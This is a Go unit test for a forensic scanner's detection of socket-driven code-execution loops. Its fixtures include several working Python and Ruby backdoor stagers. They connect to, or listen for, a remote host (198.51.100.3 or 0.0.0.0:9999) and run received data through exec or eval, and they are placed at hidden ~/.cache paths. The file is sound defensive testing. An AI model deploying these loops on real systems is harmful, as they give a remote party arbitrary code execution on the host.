package shell

import (
	"testing"

	"github.com/strata-forensics/strata/audit"
)

// TestSocketCodeLoop: a program that connects (or listens) and hands what it reads from the
// socket to the language's own eval runs whatever code is sent to it: a Python, Perl or Ruby
// stager or remote code loop, critical reverse-shell labelled malware. A program that evaluates a literal, or
// reads from a socket and evaluates its own configuration, stays silent.
func TestSocketCodeLoop(t *testing.T) {
	for name, text := range map[string]string{
		"py-direct":   "import socket\ns=socket.socket()\ns.connect(('198.51.100.3',4433))\nwhile True:\n    exec(s.recv(65536).decode())\n",
		"py-variable": "import socket, time\nwhile True:\n    try:\n        c = socket.create_connection(('198.51.100.3', 4433))\n        code = c.recv(1 << 20)\n        exec(code, {})\n    except Exception:\n        time.sleep(30)\n",
		"py-stager":   "import socket,struct\ns=socket.socket(2,1)\ns.connect(('198.51.100.3',4444))\nl=struct.unpack('>I',s.recv(4))[0]\nd=s.recv(l)\nwhile len(d)<l:\n    d+=s.recv(l-len(d))\nexec(d,{'s':s})\n",
		"py-listener": "import socket\nsrv=socket.socket()\nsrv.bind(('0.0.0.0',9999))\nsrv.listen(1)\nconn,addr=srv.accept()\nwhile 1:\n    data=conn.recv(4096)\n    exec(compile(data,'<r>','exec'))\n",
		"rb-eval":     "require 'socket'\ns = TCPSocket.new('198.51.100.3', 4433)\nwhile (line = s.gets)\n  eval(line)\nend\n",
	} {
		p := "/home/dev/.cache/." + name
		switch name[:2] {
		case "py":
			p += ".py"
		case "rb":
			p += ".rb"
		}
		fs := scanFile(p, text)
		if len(fs) == 0 || fs[0].Severity != audit.Critical || !fs[0].Is(audit.CategoryReverseShell) || !fs[0].Is(audit.CategoryMalware) {
			t.Errorf("%s: %v", name, fs)
		}
	}
	for name, text := range map[string]string{
		"py-literal": "import socket\ns=socket.socket()\ns.connect(('127.0.0.1',6379))\nexec('x = 1')\nprint(s.recv(10))\n",
		"py-config":  "import socket\ns=socket.create_connection(('127.0.0.1',8125))\nreply=s.recv(100)\ncfg=open('/etc/app.conf').read()\nexec(cfg)\nprint(reply)\n",
	} {
		if fs := scanFile("/opt/app/"+name+".py", text); len(fs) > 0 {
			t.Errorf("%s: %v", name, fs)
		}
	}
}
